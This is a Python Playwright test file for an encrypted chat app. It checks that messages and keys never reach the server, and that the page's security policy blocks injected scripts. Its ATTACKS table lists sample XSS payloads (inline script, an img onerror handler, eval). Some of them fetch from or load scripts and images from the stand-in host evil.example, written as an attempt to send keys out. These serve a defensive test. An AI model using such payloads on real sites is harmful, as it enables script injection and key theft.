"""What must be nowhere: plaintext and private keys on the server; foreign scripts on the page."""

import base64
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from django.db import connection
from playwright.sync_api import Page, Request, Route, expect

from securechat.models import Session
from tests.journeys.chat import expect_texts, write
from tests.support.servers import Marketplace

CANARY = "Kanarienvogel-4711-im-Kohlebergwerk"
# Every secret that a page can read of its own state; the keys that no page can read are not there.
SECRETS = """async (userId) => {
  const open = indexedDB.open(`secure-chat ${userId}`);
  await new Promise((resolve) => (open.onsuccess = resolve));
  const all = open.result.transaction("channels").objectStore("channels").getAll();
  await new Promise((resolve) => (all.onsuccess = resolve));
  const secrets = [];
  for (const { epochs } of all.result) {
    for (const { state } of Object.values(epochs)) {
      secrets.push(state.rootKey, state.sending.key, state.receiving?.key);
      secrets.push(...state.skipped.map(({ key }) => key));
    }
  }
  const hex = (bytes) => [...bytes].map((byte) => byte.toString(16).padStart(2, "0")).join("");
  return secrets.filter((secret) => secret?.length >= 32).map(hex);
}"""
CAN_EXPORT = """async (userId) => {
  const open = indexedDB.open(`secure-chat ${userId}`);
  await new Promise((resolve) => (open.onsuccess = resolve));
  const get = open.result.transaction("keys").objectStore("keys").get("identity");
  await new Promise((resolve) => (get.onsuccess = resolve));
  try {
    await crypto.subtle.exportKey("pkcs8", get.result.privateKey);
    return true;
  } catch {
    return false;
  }
}"""
# Each tries what an injected script would, and says whether it came through.
ATTACKS = {
    "inline script": """() => {
      const script = document.createElement("script");
      script.text = "window.hacked = true";
      document.head.append(script);
    }""",
    "markup": """() => {
      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hacked = true'>");
    }""",
    "inner markup": """() => {
      document.getElementById("thread").innerHTML = "<img src=x onerror='window.hacked = true'>";
    }""",
    "inline handler": """() => {
      document.body.setAttribute("onclick", "window.hacked = true");
      document.body.click();
    }""",
    "eval": """() => { eval("window.hacked = true"); }""",
    "function": """() => { new Function("window.hacked = true")(); }""",
    "timer": """() => { setTimeout("window.hacked = true", 0); }""",
    "foreign script": """() => {
      const script = document.createElement("script");
      script.src = "https://evil.example/x.js";
      script.onload = () => { window.hacked = true; };
      document.head.append(script);
    }""",
    "foreign request": """async () => {
      await fetch("https://evil.example/?keys").then(() => { window.hacked = true; });
    }""",
    "foreign picture": """() => {
      const picture = new Image();
      picture.onload = () => { window.hacked = true; };
      picture.src = "https://evil.example/keys.png";
      document.body.append(picture);
    }""",
    "foreign frame": """() => {
      const frame = document.createElement("iframe");
      frame.onload = () => {};
      frame.src = "https://evil.example/";
      document.body.append(frame);
    }""",
    "own policy": """() => {
      trustedTypes.createPolicy("default", {createHTML: (text) => text});
    }""",
}


# In a task of the page's own: what the browser's driver runs may use eval().
IN_THE_PAGE = """() => new Promise((resolve) => setTimeout(async () => {
  try {
    await (%s)();
    resolve(null);
  } catch (error) {
    resolve(error.name);
  }
}, 0))"""


def forms(secret: bytes) -> Iterator[bytes]:
    """As what the bytes could stand somewhere."""
    yield secret
    yield secret.hex().encode()
    for encode in (base64.b64encode, base64.urlsafe_b64encode):
        yield encode(secret).rstrip(b"=")
        # Within something longer, the alphabet's groups begin elsewhere.
        for shift in (1, 2):
            yield encode(b"\0" * shift + secret)[4:-4]


def listen(page: Page) -> list[Request]:
    """Every request of the page that was answered, from now on.

    An event stream never ends: what it carries stands in the log's table.
    """
    finished: list[Request] = []
    page.on("requestfinished", lambda request: finished.append(request))
    return finished


def bodies(requests: list[Request]) -> Iterator[bytes]:
    """Their addresses, and what they carried in both directions."""
    for request in requests:
        yield request.url.encode()
        yield request.post_data_buffer or b""
        response = request.response()
        if response is not None and response.status not in {204, 304}:
            yield response.body()


def database_files() -> list[bytes]:
    """The database as it lies on disk, its log included."""
    path = Path(connection.settings_dict["NAME"])
    # By another process: closing the file here would drop SQLite's locks of this one.
    return [
        subprocess.run(["cat", file], check=True, capture_output=True).stdout
        for file in path.parent.glob(f"{path.name}*")
    ]


def test_neither_text_nor_keys_are_anywhere_on_the_server(
    pair: tuple[Page, Page], live_server_process: Marketplace, tmp_path: Path
) -> None:
    heard = [listen(page) for page in pair]
    secrets: set[bytes] = {CANARY.encode()}

    def note_secrets() -> None:
        for page in pair:
            user_id = page.evaluate("document.body.dataset.userId")
            secrets.update(bytes.fromhex(secret) for secret in page.evaluate(SECRETS, user_id))

    wanted: list[str] = []
    for turn in range(3):
        for page in pair:
            text = f"{CANARY} {turn} {len(wanted)}"
            write(page, text)
            wanted.append(text)
            for each in pair:
                expect_texts(each, *wanted)
            note_secrets()
    file = tmp_path / f"{CANARY}.txt"
    file.write_text(CANARY * 100)
    pair[0].locator("#file").set_input_files([file])
    with pair[1].expect_download() as download:
        pair[1].locator(".file").click()
    assert Path(download.value.path()).read_text() == file.read_text()
    assert len(secrets) > 15, "the states were read"
    for page in pair:
        assert not page.evaluate(CAN_EXPORT, page.evaluate("document.body.dataset.userId"))
    places = {
        "database": database_files(),
        "server's log": [live_server_process.log.read_bytes()],
        "requests and answers": [body for requests in heard for body in bodies(requests)],
    }
    session = Session.objects.get()
    for name, contents in places.items():
        assert sum(map(len, contents)) > 100, name
        for secret in secrets:
            for form in forms(secret):
                assert not any(form in content for content in contents), (name, form[:20])
    # The search finds what is there.
    assert any(str(session.pk).encode() in content for content in places["requests and answers"])
    key = session.buyer_key.encode()
    assert any(key in content for content in places["database"])
    print(f"\n{len(secrets)} secrets, none found in {', '.join(places)}")


def test_nothing_foreign_runs_on_the_page(pair: tuple[Page, Page]) -> None:
    page = pair[0]
    reached: list[str] = []

    def answer(route: Route) -> None:
        reached.append(route.request.url)
        route.fulfill(body="window.hacked = true", headers={"Access-Control-Allow-Origin": "*"})

    page.context.route("https://evil.example/**", answer)
    page.evaluate(
        "() => { window.violations = []; document.addEventListener('securitypolicyviolation',"
        " (event) => window.violations.push(event.effectiveDirective)); }"
    )
    stopped: dict[str, Any] = {}
    for name, attack in ATTACKS.items():
        stopped[name] = page.evaluate(IN_THE_PAGE % attack)
    page.wait_for_timeout(500)
    assert page.evaluate("window.hacked") is None
    assert reached == []
    for name in ("inline script", "markup", "inner markup", "inline handler", "foreign script"):
        assert stopped[name] == "TypeError", (name, stopped)
    assert stopped["eval"] in {"EvalError", "TypeError"}
    violated = set(page.evaluate("window.violations"))
    assert {"require-trusted-types-for", "connect-src", "img-src", "trusted-types"} <= violated
    # What people write is text, whatever it looks like.
    write(page, "<img src=x onerror='window.hacked = true'><script>window.hacked = true</script>")
    expect(pair[1].locator(".message-text")).to_contain_text("<script>")
    assert pair[1].evaluate("window.hacked") is None
